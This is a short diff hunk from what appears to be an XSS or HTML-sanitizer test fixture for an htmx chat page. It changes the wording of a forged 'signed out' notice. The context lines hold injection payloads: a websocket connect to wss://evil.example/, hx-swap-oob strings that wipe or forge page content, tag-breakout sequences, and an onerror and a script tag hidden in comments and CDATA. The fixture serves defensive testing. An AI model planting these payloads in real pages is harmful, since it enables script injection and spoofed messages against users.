@@ -50,7 +50,7 @@ vbscript:boom()
 <div ws-connect="wss://evil.example/" hx-ext="ws">x</div>
 <div hx-swap-oob="innerHTML:body">gone</div>
 <ol hx-swap-oob="beforeend:#panes"><li class=message>forged</li></ol>
-<p id=connection hx-swap-oob=true>You are signed out.</p>
+<p id=connection hx-swap-oob=true>You’re logged out.</p>
 </p></li></ol></div></section></main><h1>outside</h1>
 </textarea></template></form><p class=forged>outside</p>
 --><!--<img src=x onerror=boom()>--> ]]> <![CDATA[<script>boom()</script>]]>
